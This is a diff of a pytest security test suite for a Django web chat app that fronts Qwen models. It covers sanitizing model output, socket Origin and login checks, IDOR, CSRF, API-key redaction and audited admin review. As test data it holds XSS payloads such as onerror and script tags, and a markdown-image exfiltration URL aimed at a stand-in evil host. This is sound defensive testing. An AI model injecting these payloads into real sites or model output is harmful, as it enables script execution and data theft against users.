@@ -1,92 +1,126 @@
-"""The security test matrix: each item of the issue, and the tests that fail if its hole opens.
+"""The security matrix: every class of attack tried on qwenweb, what must hold, and the tests
+that fail if it opens again (in this file unless a path is given). README.md lists the same.
 
-Item, then the tests that cover it (in this file unless a path is given):
-
- 1  model output sanitized after markdown rendering (markdown-it, then nh3)
-      test_01_sanitizer_runs_after_markdown_rendering
-      test_01_markdown_layer_alone_emits_no_raw_html
+Model output is untrusted HTML
+  sanitized after markdown rendering (markdown-it, then nh3)
+      test_sanitizer_runs_after_markdown_rendering
+      test_markdown_layer_alone_emits_no_raw_html
       tests/test_rendering.py::test_nothing_executable_survives
- 2  `hx-*`, `on*`, `style`, `javascript:`/`data:`/`vbscript:` URLs (also mixed-case and
-    entity-encoded) stripped from model output
-      test_02_dangerous_markup_and_urls_are_stripped (each payload through the real pipeline,
+  `hx-*`, `on*`, `style`, `javascript:`/`data:`/`vbscript:` URLs (also mixed-case and
+  entity-encoded) stripped
+      test_dangerous_markup_and_urls_are_stripped (each payload through the real pipeline,
         and through one whose markdown stage lets raw HTML and any link through)
- 3  XSS split across stream chunks stays inert
-      test_03_xss_split_across_stream_chunks_stays_inert (real websocket, simulator chunks)
-      test_03_lean_frames_are_appended_as_text_by_chat_js
+  XSS split across stream chunks stays inert
+      test_xss_split_across_stream_chunks_stays_inert (real websocket, simulator chunks)
+      test_lean_frames_are_appended_as_text_by_chat_js
       tests/test_browser.py::test_model_output_is_sanitized_while_streaming_and_after
- 4  markdown image exfiltration blocked
-      test_04_markdown_image_is_never_an_img (and the image in test_03's streamed reply)
+  markdown image exfiltration blocked
+      test_markdown_image_is_never_an_img (and the image in the streamed reply above)
       tests/test_rendering.py::test_markdown_image_becomes_a_link_not_an_image
       tests/test_deploy_security.py (CSP img-src)
- 5  websocket with a foreign or missing Origin rejected
-      test_05_socket_with_a_foreign_or_missing_origin_is_rejected
+
+Who may open a socket, and what it may reach
+  a foreign or missing Origin is rejected
+      test_socket_with_a_foreign_or_missing_origin_is_rejected
       tests/test_consumer.py::test_socket_from_a_foreign_origin_is_rejected
- 6  anonymous websocket closed
-      test_06_anonymous_socket_is_closed
-      test_every_socket_needs_a_login
-      tests/test_consumer.py::test_anonymous_socket_is_closed
- 7  IDOR on every conversation route (page, earlier messages, socket, stop, rename, delete,
-    exports, settings) and in the lists
-      test_07_every_conversation_route_is_covered (URL conf enumerated: a new route fails it)
-      test_07_foreign_conversation_is_404_and_unchanged
-      test_07_socket_to_a_foreign_conversation_is_closed
-      test_07_stop_and_hello_on_own_socket_never_reach_another_users_reply
-      test_07_lists_show_only_own_conversations
-      test_07_new_chat_with_another_users_client_message_id_opens_no_foreign_chat
-      tests/test_views.py::test_foreign_conversation_is_404_on_every_route
-      tests/test_views.py::test_earlier_messages_of_a_foreign_chat_are_404
-      tests/test_views.py::test_home_lists_only_my_conversations_newest_first
-      tests/test_consumer.py::test_foreign_socket_is_closed
-      tests/test_browser.py::test_other_user_gets_404_and_no_sidebar_entry
- 8  frames of one user's conversation never reach another user's socket
-      test_08_frames_never_cross_users
- 9  logout closes the user's open sockets
-      tests/test_consumer.py (logout closes sockets)
-10  CSRF on every state-changing view
-      test_10_no_view_is_csrf_exempt (URL conf enumerated)
-      test_10_every_post_without_a_token_is_refused (URL conf enumerated, admin included)
-      test_10_state_changing_posts_without_a_token_change_nothing
-      test_10_admin_actions_without_a_token_change_nothing
-11  the API key never appears in HTML, frames, logs, error messages or exports
-      test_11_api_key_never_leaks
-      test_11_api_key_with_a_trailing_newline_never_leaks (a key read from a secret file)
-12  image URLs: absolute http(s) only; the server never fetches a URL itself
-      test_12_image_urls_must_be_http_or_https
-      test_12_refused_image_urls_save_nothing_over_socket_and_form
-      test_12_server_never_fetches_image_urls
-      tests/test_consumer.py::test_bad_image_urls_are_refused_before_anything_is_saved
-13  cookie flags, session fixation
-      tests/test_deploy_security.py
-14  login throttling
-      tests/test_deploy_security.py
-15  admin review requires the permission and is audited
-      test_15_staff_without_review_permission_gets_nothing
-      test_15_reviewer_reads_but_cannot_change
-      test_15_reviews_are_audited
-      test_15_own_conversations_are_not_audited
-      tests/test_admin.py::test_reviewer_reads_conversations_but_cannot_change_them
-      tests/test_admin.py::test_staff_without_review_permission_sees_no_conversations
-16  a forged model name or parameter over the socket is refused
-      tests/test_consumer.py (forged model name or parameter)
-17  manage.py check --deploy
-      tests/test_deploy_security.py
- -  every page and socket except the public ones requires a login
+  an anonymous socket is closed; every page and socket but the public ones needs a login
+      test_anonymous_socket_is_closed
       test_every_page_needs_a_login (URL conf enumerated, GET and POST)
       test_every_socket_needs_a_login
- -  a signed-in user's pages, exports and htmx fragments are never stored by the browser
+  IDOR on every conversation route (page, earlier messages, socket, stop, rename, delete,
+  exports, settings) and in the lists
+      test_every_conversation_route_is_covered (URL conf enumerated: a new route fails it)
+      test_foreign_conversation_is_404_and_unchanged
+      test_socket_to_a_foreign_conversation_is_closed
+      test_stop_and_hello_on_own_socket_never_reach_another_users_reply
+      test_lists_show_only_own_conversations
+      test_new_chat_with_another_users_client_message_id_opens_no_foreign_chat
+      tests/test_views.py::test_foreign_conversation_is_404_on_every_route
+      tests/test_consumer.py::test_foreign_socket_is_closed
+      tests/test_browser.py::test_other_user_gets_404_and_no_sidebar_entry
+  frames of one user's conversation never reach another user's socket
+      test_frames_never_cross_users
+  a forged model name or parameter over the socket is refused
+      tests/test_consumer.py::test_a_forged_model_or_parameters_in_a_frame_change_nothing_upstream
+
+Sessions
+  a logout closes that session's sockets, in every process
+      tests/test_consumer.py::test_logout_closes_the_sockets_of_that_session_and_no_other
+      tests/test_team_deployment.py::test_logout_through_one_process_closes_that_sessions_socket_on_the_other
+  a password change, a deactivation or a deleted session made where no signal reaches
+  (`manage.py shell`, another host) refuses the next frame of an open socket (4403)
+      test_a_session_ended_from_the_command_line_refuses_the_next_send (a real daphne, the
+        change made by a `manage.py shell` subprocess)
+  cookie flags, session fixation, login throttling, `check --deploy`
+      tests/test_deploy_security.py
+
+A socket's abuse costs a bounded amount
+  a bad frame (binary, not JSON, not an object, over 256 KiB) closes that socket with a code
+  of the app's own (4003, 4009) and a sentence; nothing of it stays behind
+      test_bad_frames_close_with_a_reason_and_leave_nothing_behind (1,000 bad-frame sockets
+        against 1,000 clean closes on a real daphne: registry, tasks, memory, log)
+      tests/test_consumer.py::test_a_bad_frame_closes_only_its_socket_and_the_others_keep_streaming
+  `hello` cannot amplify: ids de-duplicated and capped, answered at most once a second
+      test_hellos_are_deduplicated_capped_and_answered_at_most_once_a_window
+  a client that does not read is dropped once what waits for it passes
+  QWENWEB_SOCKET_BACKLOG_BYTES, and the server stops reading from it meanwhile
+      test_a_client_that_stops_reading_is_dropped_and_costs_bounded_memory
+  a tab that closes while a reply streams to it is no error in the server log
+      test_a_tab_closed_mid_reply_leaves_no_error_in_the_log (real daphne)
+
+Pages and limits
+  a signed-in user's pages, exports and htmx fragments are never stored by the browser
       test_every_page_of_a_signed_in_user_is_never_stored (URL conf enumerated, plain and htmx)
       test_pages_served_over_asgi_are_never_stored_either
       test_static_files_and_public_pages_keep_their_caching
- -  new chats a minute are limited per user (QWENWEB_CHATS_PER_MINUTE)
+  new chats a minute are limited per user (QWENWEB_CHATS_PER_MINUTE)
       tests/test_limits.py::test_the_31st_chat_in_a_minute_is_refused_and_says_when_to_try_again
       tests/test_limits.py::test_zero_chats_per_minute_means_no_limit
       tests/test_limits.py::test_another_users_chats_leave_ones_own_limit_alone
- -  a tab that closes while a reply streams to it is no error in the server log
-      test_a_tab_closed_mid_reply_leaves_no_error_in_the_log (real daphne)
+
+CSRF
+      test_no_view_is_csrf_exempt (URL conf enumerated)
+      test_every_post_without_a_token_is_refused (URL conf enumerated, admin included)
+      test_state_changing_posts_without_a_token_change_nothing
+      test_admin_actions_without_a_token_change_nothing
+
+Secrets
+  the API key never appears in HTML, frames, logs, error messages or exports
+      test_api_key_never_leaks
+      test_api_key_with_a_trailing_newline_never_leaks (a key read from a secret file)
+  a key echoed by the upstream (request id, x-request-id, error code and message, reply
+  text) is redacted by the client before anything stores, logs, sends or exports it
+      test_a_key_echoed_by_the_upstream_is_never_stored_or_shown
+      tests/test_dashscope_client.py::test_key_echoed_into_request_ids_errors_and_reply_never_comes_out
+  the offline demo's simulator takes orders only from the app: a control token and an API
+  key random per run, and only the newest 200 requests kept
+      test_the_offline_demo_simulator_takes_no_orders_from_other_local_processes
+      tests/test_simulator.py::test_control_needs_the_token_when_one_is_set
+      tests/test_simulator.py::test_the_record_keeps_only_the_newest_requests
+
+Input
+  image URLs: absolute http(s) only; the server never fetches a URL itself
+      test_image_urls_must_be_http_or_https
+      test_refused_image_urls_save_nothing_over_socket_and_form
+      test_server_never_fetches_image_urls
+      tests/test_consumer.py::test_bad_image_urls_are_refused_before_anything_is_saved
+  NUL and the other invisible C0 controls never reach the database (PostgreSQL refuses NUL):
+  dropped from messages, titles and model output, refused in image URLs
+      tests/test_control_characters.py (on SQLite, and again on PostgreSQL:
+        test_the_same_on_postgresql)
+
+Admin review
+  requires the permission, and is audited
+      test_staff_without_review_permission_gets_nothing
+      test_reviewer_reads_but_cannot_change
+      test_reviews_are_audited
+      test_own_conversations_are_not_audited
+      tests/test_admin.py::test_reviewer_reads_conversations_but_cannot_change_them
+      tests/test_admin.py::test_staff_without_review_permission_sees_no_conversations
 
 Decisions recorded here:
 
-- Image URLs (12): `http`/`https` only, absolute. Refused: `javascript:`, `data:`, `file:`,
+- Image URLs: `http`/`https` only, absolute. Refused: `javascript:`, `data:`, `file:`,
   `ftp:`, relative (`/x.png`) and protocol-relative (`//host/x.png`) URLs. Accepted: URLs
   with credentials (`https://user:pw@host/x.png`) and loopback or private hosts: the server
   never fetches an image URL, it only passes it to DashScope, which fetches it from its own
@@ -96,7 +130,7 @@ Decisions recorded here:
   sits after it); the health check and the sign-in page already carry Django's never_cache
   (no-store included) for everyone, and are left as they are; other responses to anonymous
   users (redirects to the sign-in page) are left alone.
-- Audit (15): a `LogEntry` against the conversation with a flag of its own (`REVIEWED` in
+- Audit: a `LogEntry` against the conversation with a flag of its own (`REVIEWED` in
   conversations/admin.py, not ADDITION/CHANGE/DELETION: a review changes nothing) and a
   plain-text change message ("Viewed for review", "Viewed message <pk> for review",
   "Exported as JSON for review"), shown on the conversation's History page in the admin, and
@@ -106,6 +140,7 @@ Decisions recorded here:
 from __future__ import annotations
 
 import asyncio
+import contextlib
 import json
 import logging
 import re
@@ -157,7 +192,7 @@ from tests.ws_support import (
 
 ROOT = Path(__file__).resolve().parent.parent
 
-# -- reading HTML as a browser would -----------------------------------------------------------
+# -- reading HTML as a browser would ---------------------------------------------------------------
 
 # Elements that load, run or restyle something, never acceptable from model output anywhere.
 LIVE_TAGS = {
@@ -226,7 +261,7 @@ def assert_inert(source: str, *, model_output_only: bool = False) -> Elements:
     return parsed
 
 
-# -- 1, 2. sanitized after rendering; dangerous markup and URLs stripped -----------------------
+# -- sanitized after rendering; dangerous markup and URLs stripped ---------------------------------
 
 
 def _permissive_markdown() -> MarkdownIt:
@@ -248,7 +283,7 @@ def pipeline(request, monkeypatch):
     render_markdown.cache_clear()
 
 
-def test_01_sanitizer_runs_after_markdown_rendering(monkeypatch):
+def test_sanitizer_runs_after_markdown_rendering(monkeypatch):
     """Whatever markdown-it produces goes through nh3: with raw HTML switched on and every
     link allowed in markdown-it, the output is still clean (so nh3 runs on markdown-it's
     output, not before it, and not on the input only)."""
@@ -268,7 +303,7 @@ def test_01_sanitizer_runs_after_markdown_rendering(monkeypatch):
         render_markdown.cache_clear()
 
 
-def test_01_markdown_layer_alone_emits_no_raw_html():
+def test_markdown_layer_alone_emits_no_raw_html():
     """The first layer on its own: markdown-it with raw HTML off escapes tags, and renders an
     image as a link (the sanitizer is the second layer, not the only one)."""
     out = rendering._markdown().render(
@@ -345,7 +380,7 @@ PAYLOADS = [
 
 
 @pytest.mark.parametrize("source", PAYLOADS)
-def test_02_dangerous_markup_and_urls_are_stripped(pipeline, source):
+def test_dangerous_markup_and_urls_are_stripped(pipeline, source):
     out = render_markdown(source)
     parsed = assert_inert(out, model_output_only=True)
     hrefs = [
@@ -354,7 +389,7 @@ def test_02_dangerous_markup_and_urls_are_stripped(pipeline, source):
     assert all(url_scheme(href) in SAFE_SCHEMES for href in hrefs), (source, out)
 
 
-# -- 3. XSS split across stream chunks stays inert ---------------------------------------------
+# -- XSS split across stream chunks stays inert ----------------------------------------------------
 
 XSS_REPLY = (
     "Look: <img src=x onerror=alert(1)> then <script>alert(2)</script> and "
@@ -368,7 +403,7 @@ XSS_REPLY = (
 
 @pytest.mark.asyncio
 @pytest.mark.django_db(transaction=True)
-async def test_03_xss_split_across_stream_chunks_stays_inert(app_simulator):
+async def test_xss_split_across_stream_chunks_stays_inert(app_simulator):
     """Over the real ASGI app: the simulator streams the reply a word per chunk, so every tag
     arrives in pieces. The lean `+` frames carry exactly the raw text (which chat.js appends as
     a text node, see the next test); a tab that opens mid-reply gets the partial text inside
@@ -418,7 +453,7 @@ async def test_03_xss_split_across_stream_chunks_stays_inert(app_simulator):
     await late.disconnect()
 
 
-def test_03_lean_frames_are_appended_as_text_by_chat_js():
+def test_lean_frames_are_appended_as_text_by_chat_js():
     """chat.js takes `+`/`~` frames away from htmx (preventDefault: htmx would swap them as
     HTML) and appends their text as a text node, never through an HTML parser."""
     source = (ROOT / "static/qwenweb/chat.js").read_text()
@@ -443,7 +478,7 @@ def test_03_lean_frames_are_appended_as_text_by_chat_js():
     assert "insertAdjacentHTML" not in source and "outerHTML" not in source
 
 
-# -- 4. markdown image exfiltration ------------------------------------------------------------
+# -- markdown image exfiltration -------------------------------------------------------------------
 
 EXFIL = "https://evil.example/leak?d=secret"
 
@@ -464,7 +499,7 @@ EXFIL = "https://evil.example/leak?d=secret"
         f"![x](<{EXFIL}>)",
     ],
 )
-def test_04_markdown_image_is_never_an_img(pipeline, source):
+def test_markdown_image_is_never_an_img(pipeline, source):
     """No element that the browser would fetch by itself: at most a link (which needs a
     click) or text. The CSP img-src half is in tests/test_deploy_security.py."""
     out = render_markdown(source)
@@ -475,7 +510,7 @@ def test_04_markdown_image_is_never_an_img(pipeline, source):
                 assert (tag, name) == ("a", "href"), (tag, name, out)
 
 
-# -- 5, 6. the socket's gate: Origin and login -------------------------------------------------
+# -- the socket's gate: Origin and login -----------------------------------------------------------
 
 
 @pytest.mark.parametrize(
@@ -494,7 +529,7 @@ def test_04_markdown_image_is_never_an_img(pipeline, source):
 )
 @pytest.mark.asyncio
 @pytest.mark.django_db(transaction=True)
-async def test_05_socket_with_a_foreign_or_missing_origin_is_rejected(origin):
+async def test_socket_with_a_foreign_or_missing_origin_is_rejected(origin):
     """Even with the owner's valid session (a cross-site page's socket carries the cookie):
     only an Origin of an allowed host gets through."""
     owner = await make_user("alice")
@@ -535,7 +570,7 @@ def _logged_out_cookie(user) -> str:
 
 @pytest.mark.asyncio
 @pytest.mark.django_db(transaction=True)
-async def test_06_anonymous_socket_is_closed():
+async def test_anonymous_socket_is_closed():
     """No session, a forged one, a signed-out one, or an inactive user's: closed with 4403,
     before anything is sent."""
     owner = await make_user("alice")
@@ -553,7 +588,7 @@ async def test_06_anonymous_socket_is_closed():
     assert (await _raw_socket(path, owner_cookie))[0], "the owner's own session must connect"
 
 
-# -- the URL conf, walked ----------------------------------------------------------------------
+# -- the URL conf, walked --------------------------------------------------------------------------
 
 # Dummy values for path converters and regex groups, to build a URL for every pattern.
 DUMMY_UUID = "00000000-0000-4000-8000-000000000000"
@@ -597,7 +632,7 @@ def conversation_url_names() -> set[str]:
     return {name for _path, name, converters in url_patterns() if "conversation_id" in converters}
 
 
-# -- 7. IDOR -----------------------------------------------------------------------------------
+# -- IDOR ------------------------------------------------------------------------------------------
 
 
 @pytest.fixture
@@ -656,7 +691,7 @@ IDOR_REQUESTS = {
 SOCKET_ROUTES = {"ws/c/<uuid:conversation_id>/"}
 
 
-def test_07_every_conversation_route_is_covered():
+def test_every_conversation_route_is_covered():
     """A new route that takes a conversation id makes this fail until IDOR_REQUESTS tries
     it; the same for a new websocket route."""
     assert conversation_url_names() == set(IDOR_REQUESTS)
@@ -668,7 +703,7 @@ def test_07_every_conversation_route_is_covered():
 @pytest.mark.django_db
 @pytest.mark.parametrize("htmx", [False, True], ids=["plain", "htmx"])
 @pytest.mark.parametrize("name", sorted(IDOR_REQUESTS))
-def test_07_foreign_conversation_is_404_and_unchanged(client, alices_chat, bob, name, htmx):
+def test_foreign_conversation_is_404_and_unchanged(client, alices_chat, bob, name, htmx):
     """bob, on alice's conversation: 404, exactly as for a conversation that does not exist,
     nothing of hers in the answer, and nothing of hers changed."""
     method, suffix, data = IDOR_REQUESTS[name]
@@ -693,7 +728,7 @@ def test_07_foreign_conversation_is_404_and_unchanged(client, alices_chat, bob, 
 
 
 @pytest.mark.django_db
-def test_07_lists_show_only_own_conversations(client, alices_chat, bob):
+def test_lists_show_only_own_conversations(client, alices_chat, bob):
     """bob's home page, his own chat page (sidebar) and his earlier-messages partial name none
     of alice's conversations, whatever `before` he passes. (There is no search outside the
     admin; the admin's is item 15's.)"""
@@ -718,7 +753,7 @@ def test_07_lists_show_only_own_conversations(client, alices_chat, bob):
 
 @pytest.mark.asyncio
 @pytest.mark.django_db(transaction=True)
-async def test_07_new_chat_with_another_users_client_message_id_opens_no_foreign_chat():
+async def test_new_chat_with_another_users_client_message_id_opens_no_foreign_chat():
     alice = await make_user("alice")
     bob = await make_user("bob")
     theirs = await make_conversation(alice)
@@ -736,7 +771,7 @@ async def test_07_new_chat_with_another_users_client_message_id_opens_no_foreign
 
 @pytest.mark.asyncio
 @pytest.mark.django_db(transaction=True)
-async def test_07_socket_to_a_foreign_conversation_is_closed():
+async def test_socket_to_a_foreign_conversation_is_closed():
     """bob cannot open alice's conversation's socket (so he cannot send, stop or continue
     on it either), whatever his session; alice's data is untouched."""
     alice = await make_user("alice")
@@ -758,7 +793,7 @@ REPLY_B = "bob-words " + " ".join(f"b{i}" for i in range(80))
 
 @pytest.mark.asyncio
 @pytest.mark.django_db(transaction=True)
-async def test_07_stop_and_hello_on_own_socket_never_reach_another_users_reply(app_simulator):
+async def test_stop_and_hello_on_own_socket_never_reach_another_users_reply(app_simulator):
     """While alice's reply streams, bob (on his own socket, with his own reply streaming)
     presses Stop, and sends a `hello` naming alice's reply: his reply stops, alice's finishes
     whole, and bob's socket gets nothing of hers."""
@@ -796,7 +831,7 @@ async def test_07_stop_and_hello_on_own_socket_never_reach_another_users_reply(a
     await ws_b.disconnect()
 
 
-# -- 8. frames never cross users ---------------------------------------------------------------
+# -- frames never cross users ----------------------------------------------------------------------
 
 
 def assert_frames_belong(frames: list[str], own_pks: set[int], own_id, other_id, other_word):
@@ -817,7 +852,7 @@ def assert_frames_belong(frames: list[str], own_pks: set[int], own_id, other_id,
 
 @pytest.mark.asyncio
 @pytest.mark.django_db(transaction=True)
-async def test_08_frames_never_cross_users(app_simulator):
+async def test_frames_never_cross_users(app_simulator):
     """alice (two tabs) and bob stream at the same time on the in-memory layer: every frame
     each socket gets is about its own conversation's messages."""
     app_simulator.add_scenario(Scenario(match="from-alice", reply=REPLY_A, token_delay=0.01))
@@ -855,13 +890,13 @@ async def test_08_frames_never_cross_users(app_simulator):
         await ws.disconnect()
 
 
-# -- 10. CSRF ----------------------------------------------------------------------------------
+# -- CSRF ------------------------------------------------------------------------------------------
 
 # Views that may take a POST without a CSRF token, each with its reason. None so far.
 CSRF_EXEMPT_ALLOWED: dict[str, str] = {}
 
 
-def test_10_no_view_is_csrf_exempt():
+def test_no_view_is_csrf_exempt():
     exempt = {
         name or path
         for path, name, _ in url_patterns()
@@ -881,7 +916,7 @@ def _refused_for_csrf(response) -> bool:
 
 
 @pytest.mark.django_db
-def test_10_every_post_without_a_token_is_refused(alices_chat, alice, admin_user):
+def test_every_post_without_a_token_is_refused(alices_chat, alice, admin_user):
     """Every URL in the URL conf, POSTed without a token by a signed-in user (the owner of the
     conversation the URL names, or a superuser for the admin), is refused by the CSRF check."""
     owner = _csrf_client(alice)
@@ -898,7 +933,7 @@ def test_10_every_post_without_a_token_is_refused(alices_chat, alice, admin_user
 
 
 @pytest.mark.django_db
-def test_10_state_changing_posts_without_a_token_change_nothing(alices_chat, alice):
+def test_state_changing_posts_without_a_token_change_nothing(alices_chat, alice):
     """Each state-changing view, without a token: 403 and nothing changed; with the token the
     same request works (so the 403 is the CSRF check's, not something else)."""
     client = _csrf_client(alice)
@@ -937,7 +972,7 @@ def test_10_state_changing_posts_without_a_token_change_nothing(alices_chat, ali
 
 
 @pytest.mark.django_db
-def test_10_admin_actions_without_a_token_change_nothing(alices_chat, admin_user):
+def test_admin_actions_without_a_token_change_nothing(alices_chat, admin_user):
     client = _csrf_client(admin_user)
     changelist = "/admin/conversations/conversation/"
     profile = ModelProfile.objects.first()
@@ -964,7 +999,7 @@ def test_10_admin_actions_without_a_token_change_nothing(alices_chat, admin_user
     assert admin_user.check_password("password")
 
 
-# -- 11. the API key never leaks ---------------------------------------------------------------
+# -- the API key never leaks -----------------------------------------------------------------------
 
 WRONG_KEY = "sk-wrong-key-0d7e61b5a2"
 
@@ -1035,7 +1070,7 @@ def _capture_all_logs(caplog) -> None:
 
 @pytest.mark.asyncio
 @pytest.mark.django_db(transaction=True)
-async def test_11_api_key_never_leaks(app_simulator, settings, caplog):
+async def test_api_key_never_leaks(app_simulator, settings, caplog):
     """A chat with the app's key: a normal reply, an auth error and upstream errors whose
     message echoes the key (before the stream, mid-stream, native and OpenAI-compatible), then
     a wrong key. Neither key is in any frame, page, export, admin page, saved message or log
@@ -1102,7 +1137,7 @@ async def test_11_api_key_never_leaks(app_simulator, settings, caplog):
 
 @pytest.mark.asyncio
 @pytest.mark.django_db(transaction=True)
-async def test_11_api_key_with_a_trailing_newline_never_leaks(app_simulator, settings, caplog):
+async def test_api_key_with_a_trailing_newline_never_leaks(app_simulator, settings, caplog):
     _capture_all_logs(caplog)
     settings.DASHSCOPE_API_KEY = APP_API_KEY + "\n"
     reset_clients()
@@ -1119,7 +1154,111 @@ async def test_11_api_key_with_a_trailing_newline_never_leaks(app_simulator, set
     assert set(transcript.status.values()) == {"complete"}, transcript.status
 
 
-# -- 12. image URLs ----------------------------------------------------------------------------
+def _text_columns(model) -> list[str]:
+    return [
+        field.attname
+        for field in model._meta.concrete_fields
+        if field.get_internal_type() in ("CharField", "TextField", "JSONField")
+    ]
+
+
+@pytest.mark.asyncio
+@pytest.mark.django_db(transaction=True)
+async def test_a_key_echoed_by_the_upstream_is_never_stored_or_shown(app_simulator, caplog):
+    """An upstream (or a proxy) that echoes the Authorization header into the request id
+    (JSON and x-request-id), the error's code and message, and the reply text. One reply
+    completes, one fails mid-stream, one is refused before the stream (native and compatible):
+    the key is in no text column of Message or Conversation, no export, no page of the admin
+    (change and review), no socket frame and no log record (every logger at DEBUG but
+    httpcore, whose debug lines quote response headers as received: the app keeps it at
+    WARNING, whatever QWENWEB_LOG_LEVEL says)."""
+    _capture_all_logs(caplog)
+    assert django_settings.LOGGING["loggers"]["httpcore"]["level"] == "WARNING"
+    caplog.set_level(logging.WARNING, logger="httpcore")
+    app_simulator.add_scenario(Scenario(match="talk", times=-1, echo_authorization=True))
+    app_simulator.add_scenario(
+        Scenario(match="break", times=-1, echo_authorization=True, reply="some words then more",
+                 error=ScenarioError(status=500, code="InternalError", where="mid_stream",
+                                     after_chunks=2))
+    )  # fmt: skip
+    app_simulator.add_scenario(
+        Scenario(match="refuse", times=-1, echo_authorization=True,
+                 error=ScenarioError(status=400, code="InvalidParameter"))
+    )  # fmt: skip
+    owner = await make_user("alice")
+    admin = await get_user_model().objects.acreate_superuser("root", password="pw-root")
+    native = await make_conversation(owner)
+    compatible = await make_conversation(owner, model_name="qwen-max")
+    await ModelProfile.objects.filter(name="qwen-max").aupdate(protocol="compatible")
+
+    frames: list[str] = []
+    replies: list[int] = []
+    for conversation in (native, compatible):
+        ws, _, _ = await connect(owner, conversation)
+        transcript = Transcript()
+        for text in ("talk to me", "break please", "refuse this"):
+            replies.append(await send_and_settle(ws, transcript, text))
+        frames += transcript.frames
+        await ws.disconnect()
+
+    saved = [await Message.objects.aget(pk=pk) for pk in replies]
+    assert [m.status for m in saved] == ["complete", "error", "error"] * 2
+    # The echo really reached the app, redacted, everywhere it was put.
+    for message in saved:
+        assert "sk-***" in message.request_id, message.request_id
+    assert all("Bearer sk-***" in saved[i].content for i in (0, 3))
+
+    pages = await sync_to_async(_pages)(owner, admin, [native, compatible])
+    rows = [
+        json.dumps(row, default=str)
+        async for row in Message.objects.values(*_text_columns(Message))
+    ] + [
+        json.dumps(row, default=str)
+        async for row in Conversation.objects.values(*_text_columns(Conversation))
+    ]
+    haystacks = {"frame": frames, "page": pages, "saved": rows, "log": _log_text(caplog)}
+    for kind, texts in haystacks.items():
+        leaks = [text for text in texts if APP_API_KEY in text]
+        assert leaks == [], f"the key in a {kind}: {leaks[:1]}"
+
+
+def test_the_offline_demo_simulator_takes_no_orders_from_other_local_processes(settings):
+    """With no API key the app starts the simulator on a loopback port every local process can
+    reach: its control endpoints need a token only the app knows (401 without, 403 with a
+    guess), its API key is random per run (the old well-known one is refused), and it keeps
+    only the newest requests."""
+    from conversations import upstream
+    from conversations.dashscope.simulator import SimulatorServer
+
+    settings.DASHSCOPE_API_KEY = ""
+    config = upstream.get_config()
+    demo = upstream._simulator
+    try:
+        assert isinstance(demo, SimulatorServer) and config.native_base_url == demo.native_base_url
+        scenario = {"reply": "Injected by a stranger.", "times": -1}
+        for headers, status in (
+            ({}, 401),
+            ({"Authorization": "Bearer guess"}, 403),
+            ({"Authorization": "Bearer sk-offline-demo"}, 403),
+        ):
+            post = httpx.post(demo.url + "/_simulator/scenarios", json=scenario, headers=headers)
+            read = httpx.get(demo.url + "/_simulator/requests", headers=headers)
+            assert (post.status_code, read.status_code) == (status, status)
+        assert demo.simulator.scenarios == []
+        owner = {"Authorization": f"Bearer {upstream.DEMO_CONTROL_TOKEN}"}
+        assert httpx.get(demo.url + "/_simulator/state", headers=owner).status_code == 200
+
+        assert config.api_key == upstream.DEMO_API_KEY != "sk-offline-demo"
+        assert len(upstream.DEMO_API_KEY) > 30
+        old_key = {"Authorization": "Bearer sk-offline-demo"}
+        assert httpx.get(demo.compatible_base_url + "/models", headers=old_key).status_code == 401
+        assert demo.simulator.max_recorded == 200
+    finally:
+        demo.stop()
+        upstream._simulator = None
+
+
+# -- image URLs ------------------------------------------------------------------------------------
 
 ACCEPTED_IMAGE_URLS = [
     "https://example.com/cat.png",
@@ -1149,7 +1288,7 @@ REFUSED_IMAGE_URLS = [
 
 
 @pytest.mark.parametrize("url", ACCEPTED_IMAGE_URLS + REFUSED_IMAGE_URLS)
-def test_12_image_urls_must_be_http_or_https(url):
+def test_image_urls_must_be_http_or_https(url):
     if url in ACCEPTED_IMAGE_URLS:
         assert chat.clean_image_urls(url) == [url]
     else:
@@ -1162,7 +1301,7 @@ def test_12_image_urls_must_be_http_or_https(url):
 
 @pytest.mark.asyncio
 @pytest.mark.django_db(transaction=True)
-async def test_12_refused_image_urls_save_nothing_over_socket_and_form(app_simulator):
+async def test_refused_image_urls_save_nothing_over_socket_and_form(app_simulator):
     owner = await make_user("alice")
     conversation = await make_conversation(owner, model_name="qwen3-vl-plus")
     ws, _, _ = await connect(owner, conversation)
@@ -1214,7 +1353,7 @@ def local_http_server():
 
 @pytest.mark.asyncio
 @pytest.mark.django_db(transaction=True)
-async def test_12_server_never_fetches_image_urls(app_simulator, local_http_server):
+async def test_server_never_fetches_image_urls(app_simulator, local_http_server):
     """Private and loopback addresses are refused if the server ever fetches: it does not;
     this test fails if it starts to. Image URLs sent to a vision model (over the socket and
     through the home page's form) pointing at a server on 127.0.0.1 are only passed on to
@@ -1252,7 +1391,7 @@ async def test_12_server_never_fetches_image_urls(app_simulator, local_http_serv
     assert hits == ["GET /probe"]
 
 
-# -- 15. admin review: permission and audit ----------------------------------------------------
+# -- admin review: permission and audit ------------------------------------------------------------
 
 
 def _staff(django_user_model, username: str, *perms: str):
@@ -1277,7 +1416,7 @@ def _admin_urls(conversation: Conversation) -> dict[str, str]:
 
 
 @pytest.mark.django_db
-def test_15_staff_without_review_permission_gets_nothing(client, django_user_model, alices_chat):
+def test_staff_without_review_permission_gets_nothing(client, django_user_model, alices_chat):
     staff = _staff(django_user_model, "sam", "view_modelprofile", "view_systemprompt")
     client.force_login(staff)
     for what, url in _admin_urls(alices_chat).items():
@@ -1298,7 +1437,7 @@ def test_15_staff_without_review_permission_gets_nothing(client, django_user_mod
 
 
 @pytest.mark.django_db
-def test_15_reviewer_reads_but_cannot_change(client, django_user_model, alices_chat):
+def test_reviewer_reads_but_cannot_change(client, django_user_model, alices_chat):
     reviewer = _staff(django_user_model, "rita", "review_conversation")
     client.force_login(reviewer)
     urls = _admin_urls(alices_chat)
@@ -1323,7 +1462,7 @@ def test_15_reviewer_reads_but_cannot_change(client, django_user_model, alices_c
 
 
 @pytest.mark.django_db
-def test_15_reviews_are_audited(client, django_user_model, alices_chat, caplog):
+def test_reviews_are_audited(client, django_user_model, alices_chat, caplog):
     """Opening someone else's conversation or message, or exporting it, in the admin leaves
     a record naming the reviewer, the conversation and the time, on the conversation's
     History page and on the qwenweb.audit logger."""
@@ -1367,7 +1506,7 @@ def test_15_reviews_are_audited(client, django_user_model, alices_chat, caplog):
 
 
 @pytest.mark.django_db
-def test_15_own_conversations_are_not_audited(client, django_user_model, alices_chat):
+def test_own_conversations_are_not_audited(client, django_user_model, alices_chat):
     """Only reading someone else's conversation is a review; refused requests are none."""
     alice = alices_chat.owner
     alice.is_staff = True
